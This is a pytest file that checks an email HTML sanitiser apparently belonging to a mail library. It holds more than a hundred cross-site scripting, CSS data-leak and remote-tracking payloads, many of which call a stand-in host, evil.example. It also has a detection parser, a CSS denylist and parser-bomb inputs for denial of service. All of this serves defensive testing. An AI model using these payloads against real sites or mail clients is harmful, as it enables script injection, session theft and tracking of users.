"""Hostile HTML: what comes out runs nothing, loads nothing, and leaves its frame nowhere."""

import html.parser
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pymailcore.web.sanitise import MAX_TAGS, PLACEHOLDER, is_too_complex, sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror&#61;alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a ping='https://evil.example/p' href='https://example.org'>x</a>",
    "<a href='https://example.org' target=_top>x</a>",
    "<area href=javascript:alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<link rel=dns-prefetch href='//evil.example'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form action='https://evil.example'><input name=a><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src='https://evil.example/i.gif'>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<video src='https://evil.example/v' onerror=alert(1) poster='https://evil.example/p'></video>",
    "<audio src='https://evil.example/a' autoplay></audio>",
    "<picture><source srcset='https://evil.example/s'><img src=x></picture>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='/jmap/eventsource'>",
    "<img src='HTTPS:evil.example/x'>",
    "<img srcset='https://evil.example/1x 1x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,x'>",
    "<img lowsrc='https://evil.example/x' dynsrc='https://evil.example/y'>",
    "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>x</table>",
    "<body background='https://evil.example/x'>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:u\\72 l(https://evil.example/x)'>x</div>",
    "<div style='background:url(/**/https://evil.example/x'>x</div>",
    '<div style="background:url(&quot;https://evil.example/x">x</div>',
    "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='position:\\66ixed'>x</div>",
    "<div style='position:sticky'>x</div>",
    "<div style='--x:url(https://evil.example/x);background:var(--x)'>x</div>",
    "<div style='list-style:url(https://evil.example/x)'>x</div>",
    "<div style='cursor:url(https://evil.example/x),auto'>x</div>",
    "<div style='content:url(https://evil.example/x)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@\\69mport url(https://evil.example/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<style>a{background:url(https://evil.example/x)}</style>",
    "<style>a{background:url('https://evil.example/x}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<style>@media all{@media all{a{background:url(https://evil.example/x)}}}</style>",
    "<style>@namespace x url(https://evil.example/x);</style>",
    "<style>@keyframes x{from{background:url(https://evil.example/x)}}</style>",
    "<style>*{position:fixed!important}</style>",
    "<style>a{b:c}</style><img src='https://evil.example/x' alt='<style>@import x'>",
    "<style>a{color:red}<!--</style><img src=x onerror=alert(1)>-->",
    "<style>a{content:'</style><script>alert(1)</script>'}</style>",
    "<style>a{color:red;}\\3c/style>\\3cscript>alert(1)</style>",
    "<div title='<style>*{background:url(https://evil.example/x)}</style>'>x</div>",
    "<div id=body class=x><a name=location>x</a></div>",
    "<form id=document><input name=cookie></form>",
    "<portal src='https://evil.example'></portal>",
    "<fencedframe src='https://evil.example'></fencedframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x onpointerover=alert(1)>x</x>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<p is=x-element popover>x</p>",
    "<a href='https://example.org' attributionsrc='https://evil.example'>x</a>",
    "<img src='cid:nobody@x'>",
    "<img src='cid:../../logout'>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<img src=x\x0conerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

_ALLOWED_SCHEMES = ("https://", "http://", "mailto:", "tel:", "#m-")
_NEVER = (
    "url(",
    "expression",
    "javascript:",
    "vbscript:",
    "@import",
    "behavior",
    "-moz-binding",
    "fixed",
    "sticky",
)


def no_parts(_url: str) -> None:
    return None


class Judge(html.parser.HTMLParser):
    """Reads what came out with another parser and finds what should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "meta",
            "link",
            "base",
            "template",
            "video",
            "audio",
            "source",
            "frame",
            "body",
            "textarea",
            "noscript",
        }:
            self.faults.append(f"element {tag}")
        for name, value in attrs:
            self.judge(name, value or "")

    def judge(self, name: str, value: str) -> None:
        lowered = "".join(value.lower().split())
        if name.startswith("on") or name in {
            "srcset",
            "background",
            "ping",
            "action",
            "formaction",
            "srcdoc",
            "is",
        }:
            self.faults.append(f"attribute {name}")
        if name == "href" and not lowered.startswith(_ALLOWED_SCHEMES):
            self.faults.append(f"link {value}")
        if name == "src" and not (
            value in {PLACEHOLDER, "/jmap/download/x"}
            or lowered.startswith(("data:image/png", "data:image/gif"))
        ):
            self.faults.append(f"source {value}")
        if name == "target" and value != "_blank":
            self.faults.append(f"target {value}")
        if name == "style" and any(word in lowered for word in _NEVER):
            self.faults.append(f"style {value}")
        if name == "id" and not value.startswith("m-"):
            self.faults.append(f"id {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")


def faults_of(payload: str) -> list[str]:
    clean = sanitise(payload, no_parts)
    judge = Judge()
    judge.feed(clean.html)
    judge.close()
    css = clean.css.lower()
    judge.faults += [
        f"css {word}" for word in (*_NEVER, "<", "@font-face", "@namespace", "@keyframes") if word in css
    ]
    return judge.faults


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 120


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless(payload: str) -> None:
    assert faults_of(payload) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_inside_of_others(payload: str) -> None:
    for around in (
        "<table><tr><td>{}</td></tr></table>",
        "<p><b>{}",
        "<style>{}",
        "<div title='{}'>",
        "{0}{0}",
    ):
        assert faults_of(around.format(payload)) == []


def test_the_judge_can_say_no() -> None:
    """A test must be able to fail: raw payloads do."""
    guilty = 0
    for payload in PAYLOADS:
        judge = Judge()
        judge.feed(payload)
        guilty += bool(judge.faults)
    assert guilty > 70


@given(st.lists(st.sampled_from(PAYLOADS), max_size=4).map("".join), st.text(max_size=20))
def test_mixtures_are_harmless_and_cleaning_again_changes_nothing(mixture: str, between: str) -> None:
    once = sanitise(mixture + between + mixture, no_parts)
    assert faults_of(mixture + between + mixture) == []
    judge = Judge()
    judge.feed(sanitise(once.html, no_parts).html)
    assert judge.faults == []


def test_what_is_good_stays() -> None:
    clean = sanitise(
        '<div style="color:#f00;margin:0 4px;font-family:Arial" class="a b" id="top" align="center">'
        '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr>'
        '<td colspan="2" valign="top">cell</td></tr></table>'
        '<a href="https://example.org/x?a=1&amp;b=2#c">link</a> <a href="#top">up</a>'
        "<h1>Title</h1><ul><li>one</li></ul><blockquote>quote</blockquote>"
        '<img src="cid:a%40b" alt="logo" width="50">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="in"></div>',
        lambda url: "/jmap/download/x" if url == "cid:a%40b" else None,
    )
    for kept in (
        "color:#f00",
        "margin:0 4px",
        'class="a b"',
        'id="m-top"',
        'href="#m-top"',
        'width="600"',
        'colspan="2"',
        'href="https://example.org/x?a=1&amp;b=2#c"',
        "<h1>Title</h1>",
        "<li>one</li>",
        "<blockquote>quote",
        'src="/jmap/download/x"',
        "data:image/png;base64,iVBORw0KGgo=",
        'rel="noopener noreferrer"',
        'target="_blank"',
    ):
        assert kept in clean.html, kept
    assert (clean.pictures, clean.others) == (0, 0)


def test_style_sheets_are_kept_without_their_teeth() -> None:
    clean = sanitise(
        "<html><head><style>.a > #b{color:red} @media (max-width:600px){.c{width:100%!important}}"
        ".d{background:url(cid:pic);color:blue} .e{background:url(https://evil.example/x);margin:0}</style></head>"
        "<body><p class=a>x</p></body></html>",
        lambda url: "/jmap/download/x" if url == "cid:pic" else None,
    )
    assert "#m-b{color:red}" in clean.css
    assert "@media (max-width:600px){.c{width:100% !important}}" in clean.css
    assert 'url("/jmap/download/x")' in clean.css
    assert ".e{margin:0}" in clean.css
    assert (clean.pictures, clean.others) == (1, 0)


def test_blocked_things_are_counted() -> None:
    clean = sanitise(
        "<img src='https://t.example/1'><img srcset='https://t.example/2'>"
        "<td background='https://t.example/3'><p style='background:url(https://t.example/4)'>",
        no_parts,
    )
    assert (clean.pictures, clean.others) == (2, 0)
    assert PLACEHOLDER in clean.html


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 20_000,
        "<a x='" * 20_000,
        "<!--" * 20_000,
        "<table><tr><td>" * 5_000,
        "<b><i>" * 5_000,
        "<style>" + "a{" * 50_000,
        "<style>" + "@media all{" * 20_000,
        "<p style='" + "a(" * 20_000 + "'>",
        "&amp" * 50_000,
        "<svg>" * 20_000,
        "<style>" + "a{b:c}" * 20_000,
        "<b><div>" * 5_000 + "</b>" * 5_000,
        "<p style='" + "a(" * 300_000 + "'>",
    ],
)
def test_bombs_end_soon(bomb: str) -> None:
    began = time.process_time()
    sanitise(bomb, no_parts)
    assert time.process_time() - began < 3


@pytest.mark.parametrize(("tags", "fits"), [(MAX_TAGS, True), (MAX_TAGS + 1, False)])
def test_a_part_with_too_many_tags_is_not_cleaned(tags: int, fits: bool) -> None:
    """Found here: a megabyte of nested elements takes ammonia minutes."""
    html = "<br>" * tags
    assert is_too_complex(html) is not fits
    if fits:
        sanitise(html, no_parts)
    else:
        with pytest.raises(ValueError, match="tags"):
            sanitise(html, no_parts)


def test_a_tag_with_too_many_attributes_is_not_cleaned() -> None:
    """Found here: 150,000 attributes of one tag take html5ever five seconds."""
    for form in ("a{}", 'a{}="x"', "a{}='<", 'a"{}'):
        html = "<p " + " ".join(form.format(number) for number in range(100_000)) + ">"
        assert is_too_complex(html)
    assert is_too_complex("<p " + "/".join(f"{number:x}" for number in range(40_000)) + ">")
    assert not is_too_complex("<p class=x>many words and more of them</p> " * 10_000)
